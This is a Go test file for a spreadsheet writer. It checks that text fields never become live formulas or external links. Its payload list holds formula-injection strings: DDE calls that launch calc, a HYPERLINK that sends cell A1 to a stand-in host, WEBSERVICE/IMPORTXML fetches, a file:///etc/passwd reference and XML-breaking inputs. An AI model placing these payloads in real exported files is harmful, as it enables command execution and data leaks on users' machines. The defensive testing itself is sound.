package workbook

import (
	"bytes"
	"context"
	"maps"
	"os"
	"strings"
	"testing"
)

// payloads begin as formulas do, in the ways by which spreadsheets have been made to take text for one.
func payloads() []string {
	return []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", ` =1+1`, `'=1+1`, `"=1+1"`,
		`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-cmd|' /C calc'!A0`, `@cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"x")`,
		`=HYPERLINK("http://192.0.2.1/?x="&A1,"klik")`, `=IMPORTXML("http://192.0.2.1/","//a")`, `=WEBSERVICE("http://192.0.2.1/")`,
		`=IMAGE("http://192.0.2.1/x.png")`, `='file:///etc/passwd'#$passwd.A1`, `=INDIRECT("A1")`, `{=1+1}`, `=1+1;`, `%0A=1+1`,
		`</t></is><f>1+1</f>`, `<![CDATA[=1+1]]>`, `&#61;1+1`, `_x003D_1+1`, "\uFF1D1+1", `;=1+1`, `=(1+1)*cmd|'/C calc'!A0`,
	}
}

// formulas counts the formula cells of a workbook, and its links to the outside.
func formulas(t *testing.T, data []byte) (cells, links int) {
	t.Helper()
	for _, p := range partsOf(t, data) {
		cells += bytes.Count(p.data, []byte("<f>")) + bytes.Count(p.data, []byte("<f "))
		links += bytes.Count(p.data, []byte(`TargetMode="External"`)) + strings.Count(p.name, "externalLink")
	}
	return cells, links
}

func TestFP09NoTextBecomesAFormula(t *testing.T) {
	t.Parallel()
	in := lke(t)
	plain, _ := formulas(t, written(t, in, Sheet{}))
	if plain == 0 {
		t.Fatal("a blank sheet has no live formulas, so counting them shows nothing")
	}
	for _, payload := range payloads() {
		s := Sheet{Title: payload, Institution: payload, Unit: payload, Period: payload, Level: payload, Target: payload, Notes: map[string]string{}}
		for _, n := range in.Questions {
			s.Notes[n.ID] = payload
		}
		data := written(t, in, s)
		if cells, links := formulas(t, data); cells != plain || links != 0 {
			t.Errorf("%q: %d formula cells and %d external links, want %d and none", payload, cells, links, plain)
		}
		r, err := readBytes(t, in, data, "")
		must(t, err)
		want := strings.ReplaceAll(payload, "\x00", "\uFFFD") // XML has no way to write NUL
		for _, n := range in.Questions {
			if r.Notes[n.ID] != want {
				t.Fatalf("%q: note read back as %q", payload, r.Notes[n.ID])
			}
		}
		for _, label := range []string{"Instansi", "Unit kerja", "Periode"} {
			if r.Case[label] != want {
				t.Errorf("%q: %s read back as %q", payload, label, r.Case[label])
			}
		}
	}
}

// The negative control: a formula that was let through is counted.
func TestFP09AFormulaThatSlippedThroughIsSeen(t *testing.T) {
	t.Parallel()
	in := lke(t)
	data := written(t, in, Sheet{Notes: map[string]string{"A.I.1.i.a": "catatan"}})
	plain, _ := formulas(t, data)
	slipped := replaceInSheet(t, data, `t="inlineStr"><is><t>catatan</t></is>`, `><f>1+1</f><v>2</v>`)
	if cells, _ := formulas(t, slipped); cells != plain+1 {
		t.Errorf("%d formula cells, want %d", cells, plain+1)
	}
}

func TestFP09LibreOfficeTakesNoTextForAFormula(t *testing.T) {
	t.Parallel()
	if os.Getenv("ZONA_NIGHTLY") == "" {
		t.Skip("LibreOffice over every payload is a nightly test (ZONA_NIGHTLY)")
	}
	in := lke(t)
	notes := map[string]string{}
	for i, payload := range payloads() {
		if !strings.ContainsAny(payload, "\r\x00") { // line ends and NUL are the spreadsheet's own to change
			notes[in.Questions[i].ID] = payload
		}
	}
	data := written(t, in, Sheet{Notes: notes})
	b := recalculate(t, map[string][]byte{"muatan": data})["muatan"]
	ids := rowsByID(b.sheets[0])
	for id, payload := range notes {
		c := b.sheets[0].at(ids[id], colNote)
		if c == nil || c.kind != cellText || c.formula || c.text != payload {
			t.Errorf("%q came back as %+v", payload, c)
		}
	}
	before, err := openBook(context.Background(), bytes.NewReader(data), int64(len(data)))
	must(t, err)
	// A formula that ends in nothing comes back as an empty text, so there may be fewer.
	if now, then := countFormulas(b), countFormulas(before); now > then || now == 0 {
		t.Errorf("LibreOffice has %d formula cells, the file has %d", now, then)
	}
	if !maps.Equal(ids, rowsByID(before.sheets[0])) {
		t.Error("LibreOffice moved rows")
	}
}

func countFormulas(b *book) int {
	n := 0
	for _, s := range b.sheets {
		for _, r := range s.rows {
			for _, c := range r.cells {
				if c.formula {
					n++
				}
			}
		}
	}
	return n
}
